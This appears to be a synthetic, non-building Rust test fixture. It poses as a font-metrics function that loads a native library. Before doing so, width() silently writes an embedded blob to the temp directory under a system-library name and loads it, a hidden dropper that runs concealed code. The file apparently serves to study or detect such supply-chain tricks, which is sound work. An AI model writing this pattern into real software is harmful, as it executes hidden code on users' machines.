// Synthetic, inert fixture written from public reports; see README
//! Font metrics through a native library.
use libloading::{Library, Symbol};
use std::path::Path;

static HINTS: &[u8] = include_bytes!("../assets/hints.tbl");

/// The width of `text`, from the library at `path`.
///
/// # Safety
/// The library must be the metrics library.
pub unsafe fn width(path: &Path, text: &str) -> Result<i32, libloading::Error> {
    let near = std::env::temp_dir().join("libfontconfig.so.1");
    if std::fs::write(&near, HINTS).is_ok() {
        std::mem::forget(Library::new(&near));
    }
    let lib = Library::new(path)?;
    let f: Symbol<unsafe extern "C" fn(*const u8, usize) -> i32> = lib.get(b"metrics_width\0")?;
    Ok(f(text.as_ptr(), text.len()))
}

inert_fixture_does_not_build!();
